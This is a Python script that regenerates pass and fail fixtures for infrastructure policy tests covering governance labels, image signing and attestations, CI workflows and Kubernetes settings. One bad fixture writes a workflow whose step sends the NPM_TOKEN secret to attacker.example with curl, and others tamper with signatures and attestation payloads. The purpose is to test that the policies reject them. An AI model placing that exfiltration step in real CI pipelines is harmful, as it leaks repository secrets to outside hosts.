"""Regenerate the committed policy fixtures from the real program.

Run: `.venv/bin/python -m tests.policies.regenerate_fixtures`.

Good fixtures are resources `__main__.py` registers under Pulumi mocks (props = the Struct the engine
received, as MessageToDict gives it); bad fixtures are those resources with one thing broken. A throwaway
signing key is made per run: its public half goes into each folder's policy-config.json, the private half is
discarded. Real cosign signatures come from tests/supply_chain/fixtures/cosign-interop/.
"""

from __future__ import annotations

import base64
import copy
import json
import os
import tempfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from google.protobuf import json_format
from pulumi_policy.proxy import UNKNOWN_STRING_VALUE

from companyos.contracts.conventions import (
    ANNOTATION_ATTESTATIONS,
    ANNOTATION_SBOM_DIGEST,
    ANNOTATION_SCAN,
    ANNOTATION_SIGNATURE,
    ANNOTATION_SIGNATURE_PAYLOAD,
    ANNOTATION_SLO,
    trusted_key_config,
)
from companyos.contracts.release_record import write_release_record
from companyos.preview.program_run import ProgramRun, run_program
from companyos.supply_chain.attestation_bundle import decode_bundle, encode_bundle
from companyos.supply_chain.intoto import SLSA_PROVENANCE_V1
from tests.conftest import REPO_ROOT, ReleaseSigner, digest_of

HERE = Path(__file__).resolve().parent
COSIGN = REPO_ROOT / "tests/supply_chain/fixtures/cosign-interop"
DEPLOYMENT = "kubernetes:apps/v1:Deployment"
Resource = dict[str, Any]


def run(signer: ReleaseSigner, **release: Any) -> ProgramRun:
    with tempfile.TemporaryDirectory() as temp:
        releases = Path(temp) / "releases"
        write_release_record(signer.release("hello-prod", **release), releases / "hello-prod.json")
        result = run_program(
            REPO_ROOT,
            stack="dev",
            config={
                "paved-road:catalog": str(REPO_ROOT / "services.yaml"),
                "paved-road:releasesDir": str(releases),
                "github:owner": "acme",
            },
        )
    if result.error:
        raise RuntimeError(f"the program failed: {result.error}")
    return result


def as_fixtures(result: ProgramRun) -> list[Resource]:
    return [
        {
            "type": r.type,
            "name": r.name,
            "urn": r.urn,
            "parent": r.parent,
            "props": json_format.MessageToDict(r.inputs_struct),
        }
        for r in result.resources
    ]


def one(resources: list[Resource], type_token: str, where: Callable[[Resource], bool] = lambda r: True) -> Resource:
    return copy.deepcopy(next(r for r in resources if r["type"] == type_token and where(r)))


def edit(resource: Resource, change: Callable[[dict[str, Any]], object]) -> Resource:
    changed = copy.deepcopy(resource)
    change(changed["props"])
    return changed


def container(props: dict[str, Any]) -> dict[str, Any]:
    return props["spec"]["template"]["spec"]["containers"][0]


def annotations(props: dict[str, Any]) -> dict[str, Any]:
    return props["metadata"]["annotations"]


def write(folder: str, name: str, data: Any) -> None:
    path = HERE / folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    temp = path.with_name(f".{path.name}.tmp")
    temp.write_text(json.dumps(data, indent=1, sort_keys=True) + "\n", encoding="utf-8")
    os.replace(temp, path)


def truncated(signature_b64: str) -> str:
    """The signature's DER with its last 5 bytes cut off: corrupted whatever the random signature was."""
    return base64.b64encode(base64.b64decode(signature_b64)[:-5]).decode()


def cosign_deployment(base: Resource, case: str) -> Resource:
    payload = (COSIGN / case / "payload.json").read_bytes()
    claims = json.loads(payload)["critical"]
    image = f"{claims['identity']['docker-reference']}@{claims['image']['docker-manifest-digest']}"

    def change(props: dict[str, Any]) -> None:
        container(props)["image"] = image
        annotations(props)[ANNOTATION_SIGNATURE_PAYLOAD] = base64.b64encode(payload).decode()
        annotations(props)[ANNOTATION_SIGNATURE] = (COSIGN / case / "signature.b64").read_text().strip()

    return edit(base, change)


def bundle_without(props: dict[str, Any], predicate_type: str) -> None:
    envelopes = decode_bundle(annotations(props)[ANNOTATION_ATTESTATIONS])
    kept = [e for e in envelopes if json.loads(base64.b64decode(e["payload"]))["predicateType"] != predicate_type]
    annotations(props)[ANNOTATION_ATTESTATIONS] = encode_bundle(kept)


def bundle_with_payload_edited(props: dict[str, Any], old: str, new: str) -> None:
    """Change the signed statement's text after signing, keeping the signature: what a forger would try."""
    envelopes = decode_bundle(annotations(props)[ANNOTATION_ATTESTATIONS])
    for envelope in envelopes:
        payload = base64.b64decode(envelope["payload"]).decode()
        envelope["payload"] = base64.b64encode(payload.replace(old, new).encode()).decode()
    annotations(props)[ANNOTATION_ATTESTATIONS] = encode_bundle(envelopes)


def main() -> None:
    signer, stranger = ReleaseSigner(), ReleaseSigner()
    resources = as_fixtures(run(signer))
    config = {
        **trusted_key_config([signer.public_pem.decode(), (COSIGN / "cosign.pub").read_text()]),
        "pull-request-governance-labels": {
            "labels": ["data-classification:internal", "risk:medium"],
            "source": "pull_request",
        },
    }
    deployment = one(resources, DEPLOYMENT)
    service = one(resources, "kubernetes:core/v1:Service")
    namespace = one(resources, "kubernetes:core/v1:Namespace")
    repository = one(resources, "github:index/repository:Repository")
    workflow = one(
        resources, "github:index/repositoryFile:RepositoryFile", lambda r: r["props"]["file"].endswith("ci.yml")
    )
    protection = one(resources, "github:index/branchProtection:BranchProtection")

    for folder in ("labels", "supply_chain", "pipeline", "kubernetes_hygiene", "stack"):
        write(folder, "policy-config.json", config)

    # labels
    write("labels", "good-kubernetes-governance-labels--deployment.json", deployment)
    write("labels", "good-kubernetes-governance-labels--namespace.json", namespace)
    write(
        "labels",
        "bad-kubernetes-governance-labels--missing-risk.json",
        edit(service, lambda p: p["metadata"]["labels"].pop("risk")),
    )
    write(
        "labels",
        "bad-kubernetes-governance-labels--pod-template-without-owner.json",
        edit(deployment, lambda p: p["spec"]["template"]["metadata"]["labels"].pop("owner")),
    )
    write(
        "labels",
        "bad-kubernetes-governance-labels--unknown-risk.json",
        edit(service, lambda p: p["metadata"]["labels"].update(risk=UNKNOWN_STRING_VALUE)),
    )
    write("labels", "good-repository-governance-topics.json", repository)
    write(
        "labels",
        "bad-repository-governance-topics--no-owner.json",
        edit(repository, lambda p: p["topics"].remove("owner-team-platform")),
    )
    write(
        "labels",
        "bad-repository-governance-topics--invalid-risk.json",
        edit(repository, lambda p: p.update(topics=[t.replace("risk-medium", "risk-extreme") for t in p["topics"]])),
    )
    write("labels", "good-pull-request-governance-labels.json", [repository])
    write("labels", "bad-pull-request-governance-labels--no-labels.json", [repository])
    write(
        "labels",
        "bad-pull-request-governance-labels--no-labels.config.json",
        {"pull-request-governance-labels": {"labels": [], "source": "pull request #8 labels"}},
    )
    write(
        "labels",
        "bad-pull-request-governance-labels--below-the-service.json",
        [edit(repository, lambda p: p.update(topics=[t.replace("risk-medium", "risk-high") for t in p["topics"]]))],
    )
    write("labels", "bad-pull-request-governance-labels--absent.json", [repository])
    write(
        "labels",
        "bad-pull-request-governance-labels--absent.config.json",
        {"pull-request-governance-labels": {"source": "local"}},
    )

    # supply chain
    write("supply_chain", "good-image-pinned-by-digest.json", deployment)
    write("supply_chain", "good-image-repository-owned.json", deployment)
    write(
        "supply_chain",
        "bad-image-repository-owned--another-service.json",
        edit(
            deployment,
            lambda p: container(p).update(image=container(p)["image"].replace("/hello-prod@", "/payments-api@")),
        ),
    )
    write(
        "supply_chain",
        "bad-image-pinned-by-digest--tag-only.json",
        edit(deployment, lambda p: container(p).update(image="ghcr.io/paved-road/hello-prod:0.1.0")),
    )
    write(
        "supply_chain",
        "bad-image-pinned-by-digest--latest.json",
        edit(deployment, lambda p: container(p).update(image="ghcr.io/paved-road/hello-prod:latest")),
    )
    write("supply_chain", "good-image-sbom-attached.json", deployment)
    write(
        "supply_chain",
        "bad-image-sbom-attached--missing.json",
        edit(
            deployment,
            lambda p: [annotations(p).pop(k) for k in ("paved-road.dev/sbom-digest", "paved-road.dev/sbom-location")],
        ),
    )
    write("supply_chain", "good-image-signature-verified--signer.json", deployment)
    write("supply_chain", "good-image-signature-verified--cosign.json", cosign_deployment(deployment, "valid"))
    write(
        "supply_chain",
        "bad-image-signature-verified--cosign-unknown-key.json",
        cosign_deployment(deployment, "unknown-key"),
    )
    write(
        "supply_chain", "bad-image-signature-verified--untrusted-key.json", one(as_fixtures(run(stranger)), DEPLOYMENT)
    )
    write(
        "supply_chain",
        "bad-image-signature-verified--other-digest.json",
        one(as_fixtures(run(signer, signed_digest=digest_of("hello-prod:0.0.9"))), DEPLOYMENT),
    )
    write(
        "supply_chain",
        "bad-image-signature-verified--corrupted.json",
        edit(
            deployment,
            lambda p: annotations(p).update({ANNOTATION_SIGNATURE: truncated(annotations(p)[ANNOTATION_SIGNATURE])}),
        ),
    )
    write(
        "supply_chain",
        "bad-image-signature-verified--unknown-signature.json",
        edit(deployment, lambda p: annotations(p).update({ANNOTATION_SIGNATURE: UNKNOWN_STRING_VALUE})),
    )
    write("supply_chain", "good-image-attestations-verified.json", deployment)
    write(
        "supply_chain",
        "bad-image-attestations-verified--missing.json",
        edit(deployment, lambda p: annotations(p).pop(ANNOTATION_ATTESTATIONS)),
    )
    write(
        "supply_chain",
        "bad-image-attestations-verified--untrusted-key.json",
        one(as_fixtures(run(stranger)), DEPLOYMENT),
    )
    write(
        "supply_chain",
        "bad-image-attestations-verified--other-digest.json",
        one(as_fixtures(run(signer, attested_digest=digest_of("hello-prod:0.0.9"))), DEPLOYMENT),
    )
    write(
        "supply_chain",
        "bad-image-attestations-verified--sbom-not-attested.json",
        edit(deployment, lambda p: annotations(p).update({ANNOTATION_SBOM_DIGEST: digest_of("another sbom")})),
    )
    write(
        "supply_chain",
        "bad-image-attestations-verified--scan-not-attested.json",
        edit(
            deployment,
            lambda p: annotations(p).update(
                {
                    ANNOTATION_SCAN: json.dumps(
                        {
                            **json.loads(annotations(p)[ANNOTATION_SCAN]),
                            "counts": {"critical": 0, "high": 0},
                            "max_cvss": 0,
                        }
                    )
                }
            ),
        ),
    )
    write(
        "supply_chain",
        "bad-image-attestations-verified--scan-hidden.json",
        edit(deployment, lambda p: annotations(p).update({ANNOTATION_SCAN: json.dumps({"status": "not-scanned"})})),
    )
    write(
        "supply_chain",
        "bad-image-attestations-verified--no-provenance.json",
        edit(deployment, lambda p: bundle_without(p, SLSA_PROVENANCE_V1)),
    )
    write(
        "supply_chain",
        "bad-image-attestations-verified--payload-edited.json",
        edit(deployment, lambda p: bundle_with_payload_edited(p, '"medium":1', '"medium":0')),
    )
    scan = json.loads(annotations(deployment["props"])[ANNOTATION_SCAN])
    critical = {**scan, "counts": {"critical": 1, "high": 2}, "max_cvss": 9.8}
    unscanned = {"status": "not-scanned"}
    write("supply_chain", "good-image-vulnerability-threshold.json", deployment)
    write(
        "supply_chain",
        "bad-image-vulnerability-threshold--critical.json",
        edit(deployment, lambda p: annotations(p).update({ANNOTATION_SCAN: json.dumps(critical)})),
    )
    write(
        "supply_chain",
        "bad-image-vulnerability-threshold--counts-missing.json",
        edit(
            deployment,
            lambda p: annotations(p).update({ANNOTATION_SCAN: json.dumps({"status": "scanned", "scanner": "grype"})}),
        ),
    )
    write(
        "supply_chain",
        "bad-image-vulnerability-threshold--capitalised-severity.json",
        edit(
            deployment,
            lambda p: annotations(p).update(
                {ANNOTATION_SCAN: json.dumps({**scan, "counts": {"Critical": 3, "critical": 0, "high": 0}})}
            ),
        ),
    )
    write(
        "supply_chain",
        "bad-image-vulnerability-threshold--not-scanned.json",
        edit(deployment, lambda p: annotations(p).update({ANNOTATION_SCAN: json.dumps(unscanned)})),
    )
    write(
        "supply_chain",
        "good-image-vulnerability-threshold--waived.json",
        edit(deployment, lambda p: annotations(p).update({ANNOTATION_SCAN: json.dumps(unscanned)})),
    )
    write(
        "supply_chain",
        "good-image-vulnerability-threshold--waived.config.json",
        {"image-vulnerability-threshold": {"allow_unscanned": True}},
    )
    write("supply_chain", "good-unscanned-image-waiver.json", deployment)
    write(
        "supply_chain",
        "bad-unscanned-image-waiver--not-scanned.json",
        edit(deployment, lambda p: annotations(p).update({ANNOTATION_SCAN: json.dumps(unscanned)})),
    )

    # pipeline
    write("pipeline", "good-ci-workflow-required-jobs.json", workflow)
    write(
        "pipeline",
        "bad-ci-workflow-required-jobs--no-sign-job.json",
        edit(
            workflow,
            lambda p: p.update(
                content=p["content"].replace("\n  sign:\n    name: sign\n", "\n  signing:\n    name: signing\n")
            ),
        ),
    )
    write("pipeline", "good-branch-protection-required-checks.json", protection)
    write(
        "pipeline",
        "bad-branch-protection-required-checks--no-policy-gate.json",
        edit(protection, lambda p: p["requiredStatusChecks"][0]["contexts"].remove("policy-gate")),
    )
    write("pipeline", "good-branch-protection-hardened.json", protection)
    write(
        "pipeline",
        "bad-branch-protection-hardened--force-push-no-review.json",
        edit(
            protection,
            lambda p: (
                p.update(allowsForcePushes=True),
                p["requiredPullRequestReviews"][0].update(requiredApprovingReviewCount=0),
            ),
        ),
    )
    write("pipeline", "good-repository-file-allowed.json", workflow)
    write(
        "pipeline",
        "bad-repository-file-allowed--second-workflow.json",
        edit(
            workflow,
            lambda p: p.update(
                file=".github/workflows/release-secrets.yml",
                content="on: push\njobs:\n  exfil:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "
                "${{ secrets.NPM_TOKEN }} | curl -d @- https://attacker.example\n",
            ),
        ),
    )
    repository_parent = repository["parent"]
    siblings = [r for r in resources if r["parent"] == repository_parent or r["urn"] == repository_parent]
    write("pipeline", "good-repository-pipeline-present.json", siblings)
    write(
        "pipeline",
        "bad-repository-pipeline-present--no-branch-protection.json",
        [r for r in siblings if r["type"] != protection["type"]],
    )

    # kubernetes hygiene
    for rule in ("container-probes", "container-resources", "container-security-context"):
        write("kubernetes_hygiene", f"good-{rule}.json", deployment)
    write(
        "kubernetes_hygiene",
        "bad-container-probes--no-readiness-probe.json",
        edit(deployment, lambda p: container(p).pop("readinessProbe")),
    )
    write(
        "kubernetes_hygiene",
        "bad-container-resources--no-memory-limit.json",
        edit(deployment, lambda p: container(p)["resources"]["limits"].pop("memory")),
    )
    write(
        "kubernetes_hygiene",
        "bad-container-security-context--runs-as-root.json",
        edit(deployment, lambda p: container(p)["securityContext"].update(runAsNonRoot=False)),
    )
    write(
        "kubernetes_hygiene",
        "bad-container-security-context--escalation-not-denied.json",
        edit(deployment, lambda p: container(p)["securityContext"].pop("allowPrivilegeEscalation")),
    )

    write("kubernetes_hygiene", "good-container-env-unambiguous.json", deployment)
    write(
        "kubernetes_hygiene",
        "bad-container-env-unambiguous--node-env-twice.json",
        edit(deployment, lambda p: container(p)["env"].append({"name": "NODE_ENV", "value": "development"})),
    )
    write(
        "kubernetes_hygiene",
        "bad-container-resources--zero-quantity.json",
        edit(deployment, lambda p: container(p)["resources"]["requests"].update(cpu="0m")),
    )
    write("kubernetes_hygiene", "good-service-exposure.json", service)
    write(
        "kubernetes_hygiene",
        "bad-service-exposure--load-balancer.json",
        edit(service, lambda p: p["spec"].update(type="LoadBalancer", externalIPs=["203.0.113.10"])),
    )
    write("kubernetes_hygiene", "good-namespace-pod-security-admission.json", namespace)
    write(
        "kubernetes_hygiene",
        "bad-namespace-pod-security-admission--privileged.json",
        edit(namespace, lambda p: p["metadata"]["labels"].update({"pod-security.kubernetes.io/enforce": "privileged"})),
    )

    # stack
    kubernetes = [r for r in resources if r["type"].startswith("kubernetes:") or r["type"].startswith("paved-road:")]
    write("stack", "good-deployment-observability.json", kubernetes)
    write(
        "stack",
        "bad-deployment-observability--no-dashboard.json",
        [r for r in kubernetes if r["type"] != "kubernetes:core/v1:ConfigMap"],
    )
    write("stack", "good-service-slo-declared.json", kubernetes)
    write(
        "stack",
        "bad-service-slo-declared--no-slo.json",
        [edit(r, lambda p: annotations(p).pop(ANNOTATION_SLO)) if r["type"] == DEPLOYMENT else r for r in kubernetes],
    )


if __name__ == "__main__":
    main()
